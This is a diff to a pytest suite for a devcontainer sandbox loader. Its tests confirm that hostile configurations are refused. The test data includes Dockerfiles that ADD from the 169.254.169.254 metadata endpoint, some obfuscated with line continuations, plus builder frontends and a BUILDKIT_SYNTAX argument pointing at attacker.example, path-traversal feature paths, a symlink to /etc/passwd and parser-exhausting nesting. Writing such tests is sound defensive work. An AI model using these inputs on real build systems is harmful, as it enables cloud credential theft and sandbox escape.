@@ -7,7 +7,7 @@ from typing import Any
 import pytest
 
 from contracts.errors import Invalid
-from contracts.spec import Devcontainer, SandboxSpec
+from contracts.spec import Devcontainer, Network, NetworkMode, SandboxSpec
 from infra.sandbox.devcontainer import jsonc
 from infra.sandbox.devcontainer.cli import environment
 from infra.sandbox.devcontainer.project import Project, read_project
@@ -43,10 +43,11 @@ def read(directory: Path, wanted: Devcontainer | None = None) -> Project:
         ("features", {"http://169.254.169.254/feature.tgz": {}}),
         ("features", {"registry.internal/team/feature:1": {}}),
         ("features", {"../outside": {}}),
+        ("overrideFeatureInstallOrder", ["169.254.169.254/team/feature"]),
     ],
 )
 def test_what_would_open_the_sandbox_is_refused(tmp_path: Path, name: str, value: Any) -> None:
-    with pytest.raises(Invalid, match=name.rstrip("s") if name == "features" else name):
+    with pytest.raises(Invalid, match="feature" if "eature" in name else name):
         read(write_project(tmp_path, {"image": "busybox", name: value}))
 
 
@@ -132,9 +133,21 @@ def test_comments_and_trailing_commas_are_fine() -> None:
     assert jsonc.decode(text) == {"a": "// not /* one */ ,]", "b": [1, 2]}
 
 
-def test_deep_nesting_is_an_error_and_not_a_crash(tmp_path: Path) -> None:
+@pytest.mark.parametrize(
+    "value",
+    ["[" * 100_000, "[" * 600 + "]" * 600, '"' + "${env:A:" * 5000 + "}" * 5000 + '"'],
+    ids=["unclosed", "closed", "variables"],
+)
+def test_deep_nesting_is_an_error_and_not_a_crash(tmp_path: Path, value: str) -> None:
     with pytest.raises(Invalid):
-        read(write_project(tmp_path, '{"a":' + "[" * 100_000))
+        read(write_project(tmp_path, '{"image": "busybox", "customizations": ' + value + "}"))
+
+
+@pytest.mark.parametrize("text", ["/*a" * 80_000, '"' + '\\"' * 120_000], ids=["comment", "string"])
+def test_what_never_ends_is_soon_found_out(tmp_path: Path, text: str) -> None:
+    # Looked for again from each beginning, this would take longer than a test may.
+    with pytest.raises(Invalid):
+        read(write_project(tmp_path, text))
 
 
 @pytest.mark.parametrize("name", ["privileged", "capAdd", "securityOpt", "mounts", "dependsOn"])
@@ -152,6 +165,52 @@ def test_a_link_in_a_feature_brings_no_file_of_the_host_into_the_image(tmp_path:
     (project / ".devcontainer/f/stolen").symlink_to("/etc/passwd")
     with pytest.raises(Invalid, match="stolen"):
         stage(read(project), project, tmp_path / "staging", SandboxSpec())
+
+
+def test_a_feature_of_the_project_is_written_nowhere_but_where_it_is_staged(tmp_path: Path) -> None:
+    files = {
+        "a/b/c/devcontainer.json": json.dumps({"image": "busybox", "features": {"./../../../planted": {}}}),
+        "planted/devcontainer-feature.json": '{"id": "f", "version": "1.0.0"}',
+    }
+    project = write_project(tmp_path / "project", "{}", files)
+    found = read(project, Devcontainer(config="a/b/c/devcontainer.json"))
+    with pytest.raises(Invalid, match="leads out"):
+        stage(found, project, tmp_path / "scratch" / "staging", SandboxSpec())
+    assert not (tmp_path / "planted").exists()
+
+
+@pytest.mark.parametrize(
+    "dockerfile",
+    [
+        "FROM scratch\nADD http://169.254.169.254/latest/meta-data /stolen\n",
+        "FROM scratch\nonbuild add http://169.254.169.254/latest/meta-data /stolen\n",
+        "FROM scratch\nAD\\\n# hidden\n\nD http://169.254.169.254/latest/meta-data /stolen\n",
+        "# escape=`\nFROM scratch\nAD`  \nD http://169.254.169.254/latest/meta-data /stolen\n",
+        "# syntax=attacker.example/frontend\nFROM scratch\n",
+        "#Syntax = docker/dockerfile.attacker.example/x\nFROM scratch\n",
+    ],
+)
+def test_what_the_builder_itself_would_fetch_is_refused_without_network(tmp_path: Path, dockerfile: str) -> None:
+    build = {"build": {"dockerfile": "Dockerfile"}}
+    project = write_project(tmp_path / "project", build, {".devcontainer/Dockerfile": dockerfile})
+    with pytest.raises(Invalid, match="refused"):
+        stage(read(project), project, tmp_path / "staging", SandboxSpec())
+    full = SandboxSpec(network=Network(mode=NetworkMode.FULL))
+    stage(read(project), project, tmp_path / "with-network", full)
+
+
+def test_another_builder_is_not_chosen_by_an_argument_either(tmp_path: Path) -> None:
+    build = {"build": {"dockerfile": "Dockerfile", "args": {"BUILDKIT_SYNTAX": "attacker.example/frontend"}}}
+    project = write_project(tmp_path / "project", build, {".devcontainer/Dockerfile": "FROM scratch\n"})
+    with pytest.raises(Invalid, match="BUILDKIT_SYNTAX"):
+        stage(read(project), project, tmp_path / "staging", SandboxSpec())
+
+
+def test_a_dockerfile_as_people_write_them_is_fine(tmp_path: Path) -> None:
+    text = "# syntax=docker/dockerfile:1\nFROM scratch\nCOPY a \\\n  b\nRUN apk --no-cache \\\n  add x\n"
+    build = {"build": {"dockerfile": "Dockerfile"}}
+    project = write_project(tmp_path / "project", build, {".devcontainer/Dockerfile": text})
+    stage(read(project), project, tmp_path / "staging", SandboxSpec())
 
 
 @pytest.mark.parametrize("build", [{"dockerfile": "../../outside"}, {"dockerfile": "Dockerfile", "context": "../.."}])
